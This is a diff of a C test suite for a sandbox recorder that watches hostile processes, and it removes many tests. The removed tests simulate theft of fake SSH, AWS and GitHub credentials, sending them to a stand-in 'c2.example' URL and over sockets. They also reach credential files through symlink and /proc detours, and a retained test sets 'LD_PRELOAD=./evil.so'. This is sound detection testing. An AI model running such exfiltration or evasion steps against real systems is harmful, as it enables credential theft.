@@ -1,5 +1,5 @@
-/* The recorder against a subject that means harm: refused calls, bad pointers, storms, floods,
- * deaths in the middle of a call, and stolen baits. */
+/* The recorder against a subject that means harm: refused calls, bad pointers, endless arguments,
+ * storms of signals, deaths in the middle of a call. */
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -7,13 +7,8 @@
 
 #include <cmocka.h>
 
-#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
-#include <limits.h>
-#include <linux/openat2.h>
-#include <netinet/in.h>
-#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdlib.h>
@@ -21,9 +16,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
-#include <sys/resource.h>
 #include <sys/socket.h>
-#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/time.h>
 #include <sys/un.h>
@@ -332,6 +325,35 @@ static void test_subjects_that_die_in_a_call(void **state)
     recording_done(&r);
 }
 
+/* The lists of one event together must fit into it, and arguments must not push the environment
+ * out: either would hide what is executed. */
+static int do_crowded_exec(void *arg)
+{
+    (void)arg;
+    enum { ARGUMENTS = 1300, VARIABLES = 3000 };
+    static char argument[] = "a", plain[] = "X=1", telling[] = "LD_PRELOAD=./evil.so";
+    static char *argv[ARGUMENTS + 1], *envp[VARIABLES + 2];
+    for (int i = 0; i < ARGUMENTS; i++)
+        argv[i] = argument;
+    for (int i = 0; i < VARIABLES; i++)
+        envp[i] = plain;
+    envp[VARIABLES] = telling;
+    execve("/nonexistent", argv, envp);
+    return 0;
+}
+
+static void test_crowded_exec(void **state)
+{
+    (void)state;
+    struct recording r;
+    run(&r, do_crowded_exec, NULL);
+    const struct vb_event *e = must_find(&r, VB_EV_PROCESS_EXEC, VB_F_PATH, "/nonexistent");
+    assert_string_equal(list_text(e, VB_F_ENVIRONMENT), "LD_PRELOAD=./evil.so");
+    const struct vb_value *argv = vb_event_get(e, VB_F_ARGV);
+    assert_true(argv->list.count + 1 <= VB_EVENT_MAX_LIST && argv->list.count > 512);
+    recording_done(&r);
+}
+
 /* --- signals during a notification --- */
 
 static volatile sig_atomic_t alarms;
@@ -376,519 +398,9 @@ static void test_signal_storm(void **state)
     recording_done(&r);
 }
 
-/* --- limits --- */
-
-static int do_flood(void *arg)
-{
-    const struct vb_bait *bait = arg;
-    for (int i = 0; i < 5000; i++)
-        (void)!open("/nonexistent/flood", O_RDONLY);
-    if (bait)
-        (void)!open(bait->path, O_RDONLY);
-    return 0;
-}
-
-static void test_flood_is_counted(void **state)
-{
-    (void)state;
-    struct vb_bait_set *baits = make_baits();
-    const struct vb_bait *bait = vb_bait_at(baits, 0);
-    struct recording r;
-    recording_init(&r);
-    const struct subject subject = {
-        .run = do_flood, .arg = (void *)(uintptr_t)bait, .max_events = 100, .baits = baits};
-    record(&subject, &r);
-    assert_int_equal(r.step_status, 0);
-    assert_int_equal(r.exit_status, 0);
-    assert_int_equal(count_events(&r, VB_EV_FILE_OPEN, VB_F_NONE, NULL), 100);
-    assert_int_equal(count_events(&r, VB_EV_SANDBOX_LIMIT, VB_F_WHAT, "log"), 1);
-    /* 4900 opens, the bait's own open and the exit */
-    assert_int_equal(r.dropped, 4902);
-    const struct vb_event *e = must_find(&r, VB_EV_COVERAGE, VB_F_REASON, "limit");
-    assert_int_equal(vb_event_get_int(e, VB_F_COUNT, 0), 4902);
-    assert_int_equal(count_events(&r, VB_EV_COVERAGE, VB_F_NONE, NULL), 1);
-    /* What a flood would like to hide is kept. */
-    must_find(&r, VB_EV_BAIT_READ, VB_F_BAIT, bait->id);
-    recording_done(&r);
-    vb_bait_set_free(baits);
-}
-
-/* Floods of what is always kept, and of one bait that does not matter. */
-static int do_vital_flood(void *arg)
-{
-    const struct vb_bait *const *baits = arg;
-    for (int i = 0; i < 2000; i++) {
-        (void)raw(SYS_acct, 0, 0, 0, 0);
-        (void)!open(baits[0]->path, O_RDONLY);
-    }
-    (void)!open(baits[1]->path, O_RDONLY);
-    char *argv[] = {(char[]){"nothing"}, NULL};
-    execv("/nonexistent/program", argv);
-    return 0;
-}
-
-static void test_vital_flood_leaves_room(void **state)
-{
-    (void)state;
-    struct vb_bait_set *baits = make_baits();
-    const struct vb_bait *two[] = {vb_bait_at(baits, 0), vb_bait_at(baits, 1)};
-    struct recording r;
-    recording_init(&r);
-    const struct subject subject = {
-        .run = do_vital_flood, .arg = two, .max_events = 100, .baits = baits};
-    record(&subject, &r);
-    assert_int_equal(r.step_status, 0);
-    assert_int_equal(r.exit_status, 0);
-    must_find(&r, VB_EV_BAIT_READ, VB_F_BAIT, two[1]->id);
-    must_find(&r, VB_EV_PROCESS_EXEC, VB_F_PATH, "/nonexistent/program");
-    assert_true(count_events(&r, VB_EV_KERNEL_DENIED, VB_F_NONE, NULL) < 2000);
-    recording_done(&r);
-    vb_bait_set_free(baits);
-}
-
-static long resident_kib(void)
-{
-    struct rusage usage;
-    getrusage(RUSAGE_SELF, &usage);
-    return usage.ru_maxrss;
-}
-
-static int do_long_flood(void *arg)
-{
-    for (int i = 0; i < *(const int *)arg; i++)
-        (void)!open("/nonexistent/flood", O_RDONLY);
-    return 0;
-}
-
-static void test_memory_stays_flat(void **state)
-{
-    (void)state;
-    struct recording r;
-    recording_init(&r);
-    r.count_only = true;
-    int opens = 1000;
-    const struct subject subject = {.run = do_long_flood, .arg = &opens};
-    record(&subject, &r);
-    long before = resident_kib();
-    opens = 60000;
-    uint64_t begin = vb_monotonic_ns();
-    record(&subject, &r);
-    print_message("one recorded open: %.1f us\n",
-                  (double)(vb_monotonic_ns() - begin) / 1e3 / opens);
-#ifndef VB_SANITIZED /* which keeps freed memory back */
-    assert_true(resident_kib() - before < 512);
-#else
-    (void)before;
-#endif
-    assert_int_equal(r.emitted, 61002);
-    recording_done(&r);
-}
-
-static void test_broken_sink_ends_the_recorder(void **state)
-{
-    (void)state;
-    struct recording r;
-    recording_init(&r);
-    r.fail_after = 10;
-    const struct subject subject = {.run = do_flood};
-    record(&subject, &r);
-    assert_int_equal(r.step_status, VB_E_IO);
-    recording_done(&r);
-}
-
-/* --- baits --- */
-
-struct theft {
-    const struct vb_bait *file, *other, *variable;
-};
-
-static int do_theft(void *arg)
-{
-    const struct theft *t = arg;
-    (void)!open(t->file->path, O_RDONLY);
-    (void)!open(t->other->path, O_WRONLY); /* not a reading */
-    char variable[512], stolen[512], argument[512];
-    snprintf(variable, sizeof(variable), "%s=%s", t->variable->env, t->variable->secret);
-    snprintf(stolen, sizeof(stolen), "LOOT=%s", t->other->secret);
-    snprintf(argument, sizeof(argument), "http://c2.example/?k=%s", t->file->secret);
-    int fds[2], udp = socket(AF_INET, SOCK_DGRAM, 0);
-    struct sockaddr_in sink = {.sin_family = AF_INET, .sin_port = htons(9)};
-    sink.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    if (socketpair(AF_UNIX, SOCK_STREAM, 0, fds) ||
-        send(fds[0], t->other->secret, strlen(t->other->secret), 0) < 0 ||
-        sendto(udp, t->variable->secret, strlen(t->variable->secret), 0, (struct sockaddr *)&sink,
-               sizeof(sink)) < 0)
-        return 1;
-    char *const argv[] = {(char *)"true", argument, NULL};
-    char *const env[] = {variable, stolen, NULL};
-    execve("/bin/true", argv, env);
-    return 2;
-}
-
-static void test_baits(void **state)
-{
-    (void)state;
-    struct vb_bait_set *baits = make_baits();
-    struct theft theft = {bait_named(baits, "ssh-ed25519"), bait_named(baits, "aws-credentials"),
-                          bait_named(baits, "env-github")};
-    struct recording r;
-    recording_init(&r);
-    const struct subject subject = {.run = do_theft, .arg = &theft, .baits = baits};
-    record(&subject, &r);
-    assert_int_equal(r.exit_status, 0);
-    const struct vb_event *e = must_find(&r, VB_EV_BAIT_READ, VB_F_BAIT, "ssh-ed25519");
-    assert_field(e, VB_F_PATH, "/home/maja/.ssh/id_ed25519");
-    assert_int_equal(count_events(&r, VB_EV_BAIT_READ, VB_F_NONE, NULL), 1);
-    assert_field(must_find(&r, VB_EV_BAIT_SEEN, VB_F_WHERE, "argv"), VB_F_BAIT, "ssh-ed25519");
-    assert_field(must_find(&r, VB_EV_BAIT_SEEN, VB_F_WHERE, "sent"), VB_F_BAIT, "env-github");
-    /* What one process tells another within the box is not sent anywhere. */
-    assert_int_equal(count_events(&r, VB_EV_BAIT_SEEN, VB_F_WHERE, "sent"), 1);
-    /* A variable in its own place is no sighting; another's secret in one is. */
-    assert_int_equal(count_events(&r, VB_EV_BAIT_SEEN, VB_F_WHERE, "environment"), 1);
-    e = must_find(&r, VB_EV_BAIT_SEEN, VB_F_WHERE, "environment");
-    assert_field(e, VB_F_BAIT, "aws-credentials");
-    assert_field(e, VB_F_FORM, "raw");
-    recording_done(&r);
-    vb_bait_set_free(baits);
-}
-
-/* A bait that really lies in the tests' folder, reached by other names. */
-static int do_detours(void *arg)
-{
-    (void)arg;
-    char magic[256], fd_path[64], through_cwd[64];
-    if (chdir(test_folder()) || symlink(".aws/credentials", "link") || symlink(".aws", "dir"))
-        return 1;
-    (void)!open("link", O_RDONLY);
-    (void)!open("dir/credentials", O_RDONLY);
-    snprintf(magic, sizeof(magic), "/proc/self/root%s/.aws/credentials", test_folder());
-    (void)!open(magic, O_RDONLY);
-    snprintf(through_cwd, sizeof(through_cwd), "/proc/%d/cwd/.aws/credentials", getpid());
-    (void)!open(through_cwd, O_RDONLY);
-    int fd = open(".aws/credentials", O_PATH);
-    snprintf(fd_path, sizeof(fd_path), "/proc/self/fd/%d", fd);
-    (void)!open(fd_path, O_RDONLY);
-    snprintf(fd_path, sizeof(fd_path), "/dev/fd/%d", fd);
-    (void)!open(fd_path, O_RDONLY);
-    (void)!open("link", O_RDONLY | O_NOFOLLOW); /* fails: no reading */
-    return 0;
-}
-
-static void test_baits_by_detours(void **state)
-{
-    (void)state;
-    static const unsigned char seed[32] = {43};
-    struct vb_bait_set *baits = NULL;
-    struct vb_error err;
-    assert_int_equal(vb_bait_set_new(test_folder(), seed, &baits, &err), 0);
-    assert_int_equal(mkdir(in_folder(".aws"), 0700), 0);
-    int fd = open(in_folder(".aws/credentials"), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
-    assert_true(fd >= 0);
-    close(fd);
-    struct recording r;
-    recording_init(&r);
-    const struct subject subject = {.run = do_detours, .baits = baits};
-    record(&subject, &r);
-    assert_int_equal(r.exit_status, 0);
-    if (count_events(&r, VB_EV_BAIT_READ, VB_F_BAIT, "aws-credentials") != 6)
-        recording_print(&r);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_READ, VB_F_BAIT, "aws-credentials"), 6);
-    const struct vb_event *e = must_find(&r, VB_EV_FILE_OPEN, VB_F_PATH, in_folder("link"));
-    assert_field(e, VB_F_TARGET, in_folder(".aws/credentials"));
-    recording_done(&r);
-    vb_bait_set_free(baits);
-}
-
-/* The same bait by other names of the file itself, and by ways that its name does not show. */
-static int do_disguises(void *arg)
-{
-    (void)arg;
-    char path[PATH_MAX];
-    if (chdir(test_folder()) || link(".aws/credentials", "hard") || rename(".aws", "moved") ||
-        mkdir("moved/sub", 0700) || symlink("moved/sub", "climb"))
-        return 1;
-    (void)!open("hard", O_RDONLY);
-    (void)!open("moved/credentials", O_RDONLY);
-    (void)!open("climb/../credentials", O_RDONLY);
-    const struct open_how in_root = {.resolve = RESOLVE_IN_ROOT};
-    const int folder = open("moved", O_PATH | O_DIRECTORY);
-    (void)raw(SYS_openat2, folder, (long)"/../../credentials", (long)&in_root, sizeof(in_root));
-    int pipe_ends[2];
-    if (pipe(pipe_ends))
-        return 1;
-    pid_t other = fork();
-    if (other == 0) {
-        close(pipe_ends[1]);
-        _exit((int)read(pipe_ends[0], path, 1));
-    }
-    snprintf(path, sizeof(path), "/proc/%d/root%s/hard", (int)other, test_folder());
-    (void)!open(path, O_RDONLY);
-    snprintf(path, sizeof(path), "/proc/self/task/%d/cwd/hard", getpid());
-    (void)!open(path, O_RDONLY);
-    close(pipe_ends[1]);
-    return waitpid(other, NULL, 0) == other ? 0 : 1;
-}
-
-/* Where the working folder's own name is too long for anybody to read it. */
-static int do_deep(void *arg)
-{
-    enum { LEVELS = 20, NAME = 240 };
-    char name[NAME + 1], up[LEVELS * 3 + 64] = "";
-    (void)arg;
-    memset(name, 'n', NAME);
-    name[NAME] = '\0';
-    if (chdir(test_folder()))
-        return 1;
-    for (int i = 0; i < LEVELS; i++) {
-        if (mkdir(name, 0700) || chdir(name))
-            return 1;
-        memcpy(up + strlen(up), "../", 4);
-    }
-    memcpy(up + strlen(up), ".aws/credentials", sizeof(".aws/credentials"));
-    (void)!open(up, O_RDONLY);
-    for (int i = 0; i < LEVELS; i++) { /* so that the folder can be removed */
-        if (chdir("..") || rmdir(name))
-            return 1;
-    }
-    return 0;
-}
-
-/* So many steps that following them would keep the recorder from its work. */
-static int do_long_way(void *arg)
-{
-    (void)arg;
-    char path[PATH_MAX] = "";
-    if (chdir(test_folder()))
-        return 1;
-    while (strlen(path) + 64 < sizeof(path))
-        memcpy(path + strlen(path), ".aws/../", 9);
-    memcpy(path + strlen(path), ".aws/credentials", sizeof(".aws/credentials"));
-    return raw(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0) == -ELOOP ? 0 : 2;
-}
-
-static void steal(int (*function)(void *), struct recording *r)
-{
-    static const unsigned char seed[32] = {44};
-    struct vb_bait_set *baits = NULL;
-    struct vb_error err;
-    assert_int_equal(vb_bait_set_new(test_folder(), seed, &baits, &err), 0);
-    assert_int_equal(mkdir(in_folder(".aws"), 0700), 0);
-    int fd = open(in_folder(".aws/credentials"), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
-    assert_true(fd >= 0);
-    close(fd);
-    recording_init(r);
-    const struct subject subject = {.run = function, .baits = baits};
-    record(&subject, r);
-    vb_bait_set_free(baits);
-    assert_int_equal(r->step_status, 0);
-    assert_int_equal(r->exit_status, 0);
-}
-
-static void test_baits_in_disguise(void **state)
-{
-    (void)state;
-    struct recording r;
-    steal(do_disguises, &r);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_READ, VB_F_BAIT, "aws-credentials"),
-                     7); /* one is the hard link itself */
-    const struct vb_event *e =
-        must_find(&r, VB_EV_FILE_OPEN, VB_F_TARGET, in_folder("moved/credentials"));
-    assert_field(e, VB_F_PATH, in_folder("credentials")); /* as written, normalised */
-    recording_done(&r);
-}
-
-/* Folders with baits in them, by every name that lets one list them; then some that do not. */
-static int do_listings(void *arg)
-{
-    (void)arg;
-    if (chdir(test_folder()) || symlink(".aws", "dir") || mkdir("empty", 0700))
-        return 1;
-    const int aws = open(".aws", O_PATH | O_DIRECTORY);
-    (void)!open(".aws", O_RDONLY | O_DIRECTORY);
-    (void)!open(".aws/", O_RDONLY);
-    (void)!open("dir", O_RDONLY | O_DIRECTORY);
-    (void)!openat(aws, ".", O_RDONLY | O_DIRECTORY);
-    (void)!open(".", O_RDONLY | O_DIRECTORY);
-    (void)!open("empty", O_RDONLY | O_DIRECTORY);
-    (void)!open(".aws/credentials", O_RDONLY);
-    (void)!open(".ssh", O_RDONLY | O_DIRECTORY); /* is not there */
-    return aws < 0;
-}
-
-static void test_listed_baits(void **state)
-{
-    (void)state;
-    struct recording r;
-    steal(do_listings, &r);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_LIST, VB_F_PATH, in_folder(".aws")), 4);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_LIST, VB_F_PATH, test_folder()), 1);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_LIST, VB_F_NONE, NULL), 5);
-    const struct vb_event *e = must_find(&r, VB_EV_BAIT_LIST, VB_F_PATH, in_folder(".aws"));
-    assert_int_equal(vb_event_get_int(e, VB_F_COUNT, 0), 2); /* credentials and config */
-    recording_done(&r);
-}
-
-static void test_baits_from_a_nameless_folder(void **state)
-{
-    (void)state;
-    struct recording r;
-    steal(do_deep, &r);
-    assert_int_equal(count_events(&r, VB_EV_BAIT_READ, VB_F_BAIT, "aws-credentials"), 1);
-    recording_done(&r);
-}
-
-static void test_a_way_too_long_is_refused(void **state)
-{
-    (void)state;
-    struct recording r;
-    steal(do_long_way, &r);
-    must_find(&r, VB_EV_PROCESS_OPAQUE, VB_F_SYSCALL, "openat");
-    recording_done(&r);
-}
-
-/* The lists of one event together must fit into it, and arguments must not push the environment
- * out: either would hide what is executed. */
-static int do_crowded_exec(void *arg)
-{
-    (void)arg;
-    enum { ARGUMENTS = 1300, VARIABLES = 3000 };
-    static char argument[] = "a", plain[] = "X=1", telling[] = "LD_PRELOAD=./evil.so";
-    static char *argv[ARGUMENTS + 1], *envp[VARIABLES + 2];
-    for (int i = 0; i < ARGUMENTS; i++)
-        argv[i] = argument;
-    for (int i = 0; i < VARIABLES; i++)
-        envp[i] = plain;
-    envp[VARIABLES] = telling;
-    execve("/nonexistent", argv, envp);
-    return 0;
-}
-
-static void test_crowded_exec(void **state)
-{
-    (void)state;
-    struct recording r;
-    run(&r, do_crowded_exec, NULL);
-    const struct vb_event *e = must_find(&r, VB_EV_PROCESS_EXEC, VB_F_PATH, "/nonexistent");
-    assert_string_equal(list_text(e, VB_F_ENVIRONMENT), "LD_PRELOAD=./evil.so");
-    const struct vb_value *argv = vb_event_get(e, VB_F_ARGV);
-    assert_true(argv->list.count + 1 <= VB_EVENT_MAX_LIST && argv->list.count > 512);
-    recording_done(&r);
-}
-
-/* --- */
-
-/* --- an execution whose arguments change after they were read --- */
-
-static char raced_path[64], raced_word[64];
-static atomic_int *raced_told;
-static atomic_int raced_ready; /* the thread makes no more calls that the recorder is asked about */
-
-/* What was announced has been read when the sink has it. */
-static void wait_until_told(void)
-{
-    atomic_store(&raced_ready, 1);
-    while (atomic_load(raced_told) == 0)
-        usleep(100);
-}
-
-static void *change_path(void *arg)
-{
-    (void)arg;
-    wait_until_told();
-    memcpy(raced_path, "/usr/bin/false", sizeof("/usr/bin/false"));
-    atomic_fetch_add(raced_told, 1);
-    return NULL;
-}
-
-static void *change_word(void *arg)
-{
-    (void)arg;
-    wait_until_told();
-    memcpy(raced_word, "evil", sizeof("evil"));
-    atomic_fetch_add(raced_told, 1);
-    return NULL;
-}
-
-static int do_race(void *arg)
-{
-    void *(*change)(void *) = arg ? change_word : change_path;
-    pthread_t thread;
-    snprintf(raced_path, sizeof(raced_path), "/usr/bin/true");
-    snprintf(raced_word, sizeof(raced_word), "good");
-    char *const argv[] = {(char *)"true", raced_word, NULL};
-    if (pthread_create(&thread, NULL, change, NULL))
-        return 3;
-    while (atomic_load(&raced_ready) == 0)
-        usleep(100);
-    execv(raced_path, argv); /* the sink waits for the thread */
-    return 2;
-}
-
-static void record_race(struct recording *r, void *arg)
-{
-    raced_told =
-        mmap(NULL, sizeof(*raced_told), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-    assert_true(raced_told != MAP_FAILED);
-    recording_init(r);
-    r->told = raced_told;
-    const struct subject subject = {.run = do_race, .arg = arg};
-    record(&subject, r);
-    munmap(raced_told, sizeof(*raced_told));
-}
-
-/* The record says true; false ran, and that shows. */
-static void test_hidden_execution(void **state)
-{
-    (void)state;
-    struct recording r;
-    record_race(&r, NULL);
-    assert_int_equal(r.exit_status, 1);
-    must_find(&r, VB_EV_PROCESS_EXEC, VB_F_PATH, "/usr/bin/true");
-    const struct vb_event *e = must_find(&r, VB_EV_TRUTH_EXEC, VB_F_PATH, "/usr/bin/true");
-    assert_field(e, VB_F_EXECUTABLE, "/usr/bin/false");
-    assert_field(e, VB_F_REASON, "program");
-    recording_done(&r);
-    record_race(&r, &r);
-    assert_int_equal(r.exit_status, 0);
-    e = must_find(&r, VB_EV_TRUTH_EXEC, VB_F_REASON, "arguments");
-    assert_field(e, VB_F_COMMAND, "true evil");
-    recording_done(&r);
-}
-
-static int do_executions(void *arg)
-{
-    (void)arg;
-    /* Scripts, other names, no arguments, descriptors, failures: nothing is hidden here. */
-    static const char script[] =
-        "printf '#!/usr/bin/env -S sh -e\n:' >s; chmod +x s; ./s a; PATH=. s; "
-        "printf '#!%s/s  -z \n' \"$PWD\" >t; chmod +x t; ./t; (exec -a other true x); nosuch; "
-        "python3 -c 'import os;f=os.open(\"/bin/true\",0);os.execve(f,[\"t\"],{})'; "
-        "printf ': no interpreter' >n; chmod +x n; ./n; seq 5000 | xargs true; rm s t n";
-    if (chdir(test_folder()))
-        return 1;
-    execl("/bin/bash", "bash", "-c", script, (char *)NULL);
-    return 2;
-}
-
-static void test_honest_executions(void **state)
-{
-    (void)state;
-    struct recording r;
-    run(&r, do_executions, NULL);
-    assert_int_equal(r.exit_status, 0);
-    assert_true(count_events(&r, VB_EV_PROCESS_EXEC, VB_F_PATH, NULL) > 12);
-    if (find_event(&r, VB_EV_TRUTH_EXEC, VB_F_PATH, NULL, 0)) {
-        recording_print(&r);
-        fail_msg("an honest execution is called hidden");
-    }
-    recording_done(&r);
-}
-
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_hidden_execution),
-        WITH_FOLDER(test_honest_executions),
         cmocka_unit_test(test_refusals),
         cmocka_unit_test(test_ordinary_calls_are_silent),
         cmocka_unit_test(test_kernel_calls),
@@ -900,16 +412,6 @@ int main(void)
         cmocka_unit_test(test_endless_arguments),
         cmocka_unit_test(test_subjects_that_die_in_a_call),
         cmocka_unit_test(test_signal_storm),
-        cmocka_unit_test(test_flood_is_counted),
-        cmocka_unit_test(test_vital_flood_leaves_room),
-        cmocka_unit_test(test_memory_stays_flat),
-        cmocka_unit_test(test_broken_sink_ends_the_recorder),
-        cmocka_unit_test(test_baits),
-        WITH_FOLDER(test_baits_by_detours),
-        WITH_FOLDER(test_baits_in_disguise),
-        WITH_FOLDER(test_listed_baits),
-        WITH_FOLDER(test_baits_from_a_nameless_folder),
-        WITH_FOLDER(test_a_way_too_long_is_refused),
         cmocka_unit_test(test_crowded_exec),
     };
     if (!recorder_available())
